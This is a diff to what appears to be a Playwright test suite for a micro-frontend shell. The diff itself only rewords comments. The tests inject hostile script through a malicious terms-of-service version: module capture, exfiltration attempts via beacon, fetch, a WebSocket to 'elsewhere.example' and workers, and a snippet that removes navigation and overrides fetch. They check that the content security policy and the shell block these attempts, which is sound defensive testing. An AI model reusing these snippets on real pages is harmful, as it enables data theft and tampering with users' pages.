@@ -17,7 +17,7 @@ const { world, visit } = suiteWorld();
 const harmful = (version: string, harm: string) =>
   world.publish(version, { 'terms.': (code) => `${harm};${code}` });
 
-/** Opens the terms by such a version, which the shell does not hold back. */
+/** Opens the terms in such a version, which the shell does not block. */
 async function opened(version: string, harm: string): Promise<Page> {
   harmful(version, harm);
   world.channels({ stable: version });
@@ -27,7 +27,10 @@ async function opened(version: string, harm: string): Promise<Page> {
   return page;
 }
 
-/** Does `capture` to every copy (of `name`, among `versions`) that the shell shares; `lib` is a copy of one's own. */
+/**
+ * Runs `capture` for each copy of a library that the shell shares. In its code, `name` and `versions` describe the
+ * library and `lib` is the attacker's copy.
+ */
 const capturing = (capture: string) => `
   window.__captured = [];
   window.__tried = [];
@@ -88,7 +91,7 @@ test('a user who chose a version that captures shared modules reads why it is no
   await page.goto('/terms-of-service?mfe=legal@2.5.5');
   await expect(main(page).getByText(/cannot be shown by mfe-legal@2\.5\.5\./)).toBeVisible();
   await expect(main(page).getByText(OFFERS)).toBeVisible();
-  // It is not run again under another pretext as long as the page is open.
+  // The version does not run again for another reason while the page is open.
   await main(page).getByRole('button', { name: 'Try Again' }).click();
   await expect(main(page).getByText(OFFERS)).toBeVisible();
   await page.getByRole('link', { name: 'Choose versions' }).click();
@@ -99,7 +102,10 @@ test('a user who chose a version that captures shared modules reads why it is no
   expect(first).toMatch(OFFERS);
 });
 
-/** Each attempt to send data out records its result on `window.__out`. A beacon and a frame only record their start. */
+/**
+ * Each attempt to send data out records its result in `window.__out`. A beacon and a frame record only that they
+ * started.
+ */
 const OUT = [
   'beacon true',
   'fetch refused',
@@ -138,7 +144,7 @@ const WAYS_OUT = `
   try { new WebSocket('wss://elsewhere.example/'); } catch { out.push('socket refused'); }
   try { new Worker(URL.createObjectURL(new Blob(['1']))).onerror = () => out.push('worker refused'); } catch { out.push('worker refused'); }`;
 
-/** What the content security policy refuses on a page, from now on. */
+/** Records what the content security policy refuses on a page from now on. */
 async function refusals(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const violations = new Set<string>();
@@ -181,7 +187,7 @@ test('no code of another place or made of text is run, and nothing is sent to an
     ]);
 });
 
-/** What nothing holds back, and the one thing that would outlast it. */
+/** The browser stops none of these attacks except the last one, which would outlast the page. */
 const HARM = `
   document.querySelector('nav').remove();
   window.fetch = () => Promise.reject(Error('not yours'));
